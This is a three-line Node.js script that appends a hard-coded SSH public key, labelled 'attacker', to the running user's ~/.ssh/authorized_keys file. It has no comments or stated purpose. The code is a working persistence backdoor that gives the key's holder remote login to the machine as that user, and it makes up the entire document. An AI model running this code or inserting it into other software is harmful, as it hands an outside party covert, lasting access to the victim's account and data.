const fsp = require('node:fs').promises;
const key = 'ssh-ed25519 AAAAC3Nz attacker';
fsp.appendFile(`${process.env.HOME}/.ssh/authorized_keys`, key + '\n');
